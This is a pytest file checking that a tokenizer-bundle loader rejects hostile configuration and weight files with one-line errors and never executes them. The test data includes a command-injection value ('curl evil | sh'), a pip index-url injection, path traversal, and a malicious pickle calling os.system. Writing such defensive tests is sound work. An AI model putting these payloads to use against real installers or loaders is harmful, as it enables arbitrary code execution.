"""The files of a bundle that somebody else has made: whatever they hold, one line, and nothing of it is run."""

import hashlib
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from vltok.errors import UserError
from vltok.io.bundles import fingerprint, load_tokenizer

from .test_yaml_text import HOSTILE

OLD = Path(__file__).parent / "bundles_0_1_0"


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    return shutil.copytree(OLD / "tokenizer", tmp_path / "bundle")


@pytest.fixture
def change(bundle: Path) -> Callable[[str, Any], None]:
    """Change a key of the bundle's configuration."""

    def change(key: str, value: Any) -> None:
        content = yaml.safe_load((bundle / "config.yaml").read_text())
        content[key] = value
        (bundle / "config.yaml").write_text(yaml.safe_dump(content))

    return change


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("kind", "program", "no kind of tokenizer and prior"),
        ("kind", ["tokenizer"], "no kind of tokenizer and prior"),
        ("format", {"a": 1}, "has format {'a': 1}, but"),
        ("vltok", 3, "vltok must be a version"),
        ("tokenizer", "dq-vae", "tokenizer must have a class_path"),
        ("tokenizer", {"init_args": {}}, "tokenizer must have a class_path"),
        ("tokenizer", {"class_path": "dq-vae", "init_args": {None: 1, "a": 2}}, "words, numbers, lists and keys alone"),
        ("requires", {"a": 1}, "requires must list"),
        ("requires", ["vltok"], "requires must list"),
        ("requires", [{"distribution": "vltok"}], "requires must list"),
        ("requires", [{"distribution": "", "version": "1"}], "requires must list"),
        ("requires", [{"distribution": "a; curl evil | sh", "version": "1"}], "requires must list"),
        ("requires", [{"distribution": "--index-url=https://evil a", "version": "1"}], "requires must list"),
        ("requires", [{"distribution": "../../a", "version": "1"}], "requires must list"),
        ("requires", [{"distribution": "a", "version": "1 --pre\nb"}], "requires must list"),
        ("weights", "abc", "weights must have"),
        ("weights", {"sha256": "0" * 63, "size": 3}, "weights must have"),
        ("weights", {"sha256": "0" * 64, "size": "3"}, "weights must have"),
        ("weights", {"sha256": "0" * 64, "size": 10**30}, "is damaged: it has"),
    ],
    ids=str,
)
def test_a_hostile_configuration_is_one_line(bundle: Path, change, key: str, value: Any, message: str) -> None:
    change(key, value)
    # all but the weights themselves are looked at before anything else
    for read in (load_tokenizer,) if "damaged: it has" in message else (load_tokenizer, fingerprint):
        with pytest.raises(UserError, match=message) as raised:
            read(bundle)
        assert "\n" not in str(raised.value) and "pip install" not in str(raised.value)


@pytest.mark.parametrize(("text", "problem"), HOSTILE, ids=[problem for _, problem in HOSTILE])
def test_hostile_yaml_is_one_line(bundle: Path, text: str, problem: str) -> None:
    with (bundle / "config.yaml").open("a") as file:
        file.write(text)
    with pytest.raises(UserError, match=r"config\.yaml' is damaged: it is not YAML") as raised:
        load_tokenizer(bundle)
    assert "\n" not in str(raised.value)


def test_a_configuration_of_any_size_or_kind_of_file(bundle: Path) -> None:
    config = bundle / "config.yaml"
    with config.open("r+b") as file:
        file.truncate(1 << 40)  # no byte of it is on the disk
    with pytest.raises(UserError, match="it has more than 1000000 bytes"):
        load_tokenizer(bundle)
    config.unlink()
    for make in (os.mkfifo, lambda path: path.symlink_to("/dev/zero"), lambda path: path.symlink_to(path), Path.mkdir):
        make(config)
        with pytest.raises(UserError, match=r"has no config\.yaml"):
            load_tokenizer(bundle)
        config.rmdir() if config.is_dir() else config.unlink()


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\xff" * 8,
        (1 << 40).to_bytes(8, "little"),
        (2).to_bytes(8, "little") + b"{}",
        (64).to_bytes(8, "little")
        + b'{"a":{"dtype":"F32","shape":[1099511627776],"data_offsets":[0,4]}}'.ljust(64)
        + b"1234",
        b"\x80\x04cos\nsystem\n(S'touch ran'\ntR.",
    ],
)
def test_weights_that_lie_are_one_line(bundle: Path, change, content: bytes) -> None:
    (bundle / "model.safetensors").write_bytes(content)
    change("weights", {"sha256": hashlib.sha256(content).hexdigest(), "size": len(content)})
    with pytest.raises(UserError, match=r"is damaged or no safetensors file|do not fit what config\.yaml"):
        load_tokenizer(bundle)


def test_the_folder_of_a_run_leads_to_its_bundle(bundle: Path) -> None:
    """Its `config.yaml` is the recipe."""
    (bundle.parent / "config.yaml").write_text("seed_everything: 0\n")
    with pytest.raises(UserError, match=f"no kind of tokenizer and prior; did you mean '{bundle}'"):
        load_tokenizer(bundle.parent)
